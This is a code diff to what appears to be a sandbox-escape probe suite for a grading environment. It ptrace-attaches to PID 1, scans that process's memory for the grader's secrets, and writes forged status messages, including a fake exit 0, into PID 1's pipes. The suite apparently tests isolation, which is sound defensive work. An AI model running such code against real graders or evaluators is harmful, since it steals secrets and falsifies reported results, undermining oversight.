@@ -298,6 +298,11 @@ PTRACE_PEEKDATA, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 17, 0x4206, 
 
 
 def ptrace_the_sandbox_init():
+    """Attach to PID 1 and look through its memory for the grader's secrets.
+
+    PID 1 is a clean reaper exec'd in the sandbox's user namespace, where the
+    solution holds CAP_SYS_PTRACE: attaching works, by design.  An escape is
+    finding something of the grader's in it."""
     libc.ptrace.restype = ctypes.c_long
     libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
     if libc.ptrace(PTRACE_SEIZE, 1, None, None) != 0:
@@ -310,18 +315,18 @@ def ptrace_the_sandbox_init():
         if pid:
             break
         time.sleep(0.01)
-    with open("/proc/1/maps") as f:
-        start = int(f.readline().split("-")[0], 16)
-    ctypes.set_errno(0)
-    word = libc.ptrace(PTRACE_PEEKDATA, 1, ctypes.c_void_p(start), None)
-    peeked = ctypes.get_errno() == 0
-    libc.ptrace(PTRACE_DETACH, 1, None, None)
-    say(f"ESCAPED {ROUTE}: attached to the sandbox's PID 1"
-        + (f", read its memory ({word:#x})" if peeked else ""))
+    try:
+        _search_memory_of_init()
+    finally:
+        libc.ptrace(PTRACE_DETACH, 1, None, None)
 
 
 def read_memory_of_the_sandbox_init():
     """The grader's memory: its environment (Python keeps a copy), other students' results."""
+    _search_memory_of_init()
+
+
+def _search_memory_of_init():
     name = T["secret_name"].encode() + b"="
     try:
         mem = open("/proc/1/mem", "rb", buffering=0)
@@ -343,14 +348,32 @@ def read_memory_of_the_sandbox_init():
         except (OSError, ValueError, OverflowError):
             continue
         read += len(chunk)
-        at = chunk.find(name)
-        if at >= 0:
-            say(f"ESCAPED {ROUTE}: the grader's secret: {chunk[at:at + len(name) + 40]!r}")
-            return
-    if read:
-        say(f"ESCAPED {ROUTE}: read {read} bytes of the grader's memory (no secret in it)")
-    else:
-        say(f"blocked {ROUTE}: nothing readable")
+        for secret in (name, b"grader", b"NSLAB_CGROUP_PREFIX"):
+            at = chunk.find(secret)
+            if at >= 0:
+                say(f"ESCAPED {ROUTE}: the grader's memory: {chunk[at:at + len(secret) + 40]!r}")
+                return
+    say(f"blocked {ROUTE}: read {read} bytes of PID 1, none of them the grader's")
+
+
+def status_pipe_of_the_sandbox_init():
+    """PID 1 reports the solution's end to the grader through a pipe that /proc/1/fd shows:
+    garbage, a made-up setup error and a made-up exit 0 written into it."""
+    lies = (b"\x00garbage{\n[1, 2]\n\"event\"\n"
+            b'{"event": "setup_error", "message": "made up"}\n'
+            b'{"event": "exit", "status": 0}\n{"event": "exit"}\n')
+    wrote = 0
+    for fd in os.listdir("/proc/1/fd"):
+        try:
+            if not os.readlink(f"/proc/1/fd/{fd}").startswith("pipe:"):
+                continue
+            out = os.open(f"/proc/1/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
+            os.write(out, lies)
+            os.close(out)
+            wrote += 1
+        except OSError as e:
+            say(f"blocked {ROUTE}: /proc/1/fd/{fd}: {errno.errorcode.get(e.errno)}")
+    say(f"wrote lies into {wrote} pipes of PID 1")
 
 
 def read_environ_of_the_sandbox_init():
